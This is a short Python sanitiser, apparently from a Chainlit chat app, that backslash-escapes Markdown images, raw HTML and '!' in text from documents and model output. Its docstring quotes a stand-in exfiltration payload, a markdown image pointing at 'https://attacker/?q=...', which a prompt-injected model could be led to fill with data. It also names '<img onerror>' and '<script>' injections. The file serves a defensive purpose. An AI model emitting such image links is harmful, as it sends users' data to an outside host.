"""Text from documents, models and the registry, made inert before the chat renders it as Markdown.

A planted `![x](https://attacker/?q=...)` would make every reader's browser fetch that address
(and tell it whatever the model was induced to put there), and `<img onerror=...>` or
`<script>` is HTML. Chainlit renders no raw HTML (`unsafe_allow_html = false`), but the text
must not depend on that setting. So `<`, `!`, the `[` after a `!` and `\\` are
backslash-escaped: Markdown shows them as the characters they are, an image or a tag shows as
its text, and the rest (emphasis, lists, tables, our own framing) still renders.
"""

from __future__ import annotations

import re

# Each `!` is escaped on its own as well: a streamed answer arrives token by token, and a `!`
# at the end of one token must not open an image with the `[` that starts the next.
_SPECIAL = re.compile(r"!\[|[!<\\]")


def inert_markdown(text: str) -> str:
    """`text` with no image or raw HTML left in it; on screen it reads as it did."""
    return _SPECIAL.sub(lambda match: "".join(f"\\{c}" for c in match.group()), text)
